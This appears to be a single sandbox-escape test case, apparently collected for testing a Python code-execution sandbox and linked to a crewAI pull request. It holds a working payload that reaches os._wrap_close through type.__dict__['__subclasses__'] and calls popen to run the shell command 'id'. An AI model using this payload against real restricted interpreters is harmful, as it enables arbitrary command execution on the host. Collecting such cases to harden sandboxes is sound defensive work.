# Source: https://github.com/crewAIInc/crewAI/pull/4643 (type.__dict__ mappingproxy)
# Family: getattribute
# What: type.__dict__['__subclasses__'] descriptor called on object
subs = type.__dict__["__subclasses__"](object)
print([c for c in subs if c.__name__ == "_wrap_close"][0].__init__.__globals__["popen"]("id").read())
